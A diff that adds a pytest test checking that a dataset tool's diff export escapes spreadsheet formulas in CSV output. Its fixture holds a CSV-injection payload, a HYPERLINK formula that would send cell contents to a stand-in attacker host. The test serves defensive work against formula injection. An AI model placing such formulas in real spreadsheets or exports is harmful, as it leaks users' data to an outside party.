@@ -53,6 +53,16 @@ def test_show_diff_prints_a_table_or_json(datasets, capsys: pytest.CaptureFixtur
     }
 
 
+def test_show_diff_writes_no_formula_to_a_csv_file(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    store, first = packed_in(tmp_path / "store", [pair(0), pair(1)])
+    _, second = packed_in(tmp_path / "store", [pair(0), pair(1), pair(2, caption=formula)])
+    for name, caption in (("rows.csv", f"'{formula}"), ("rows.parquet", formula)):
+        show_diff(first["pack"].key, second["pack"].key, tmp_path, store.uri, tmp_path / name, as_json=True)
+        read = pl.read_parquet if name.endswith("parquet") else pl.read_csv
+        assert read(tmp_path / name)["caption"].to_list() == [caption]
+
+
 @pytest.mark.parametrize("name", ["rows.parquet", "rows.csv"])
 def test_show_diff_writes_the_rows_to_a_file(datasets, name: str) -> None:
     home, store, first, _ = datasets
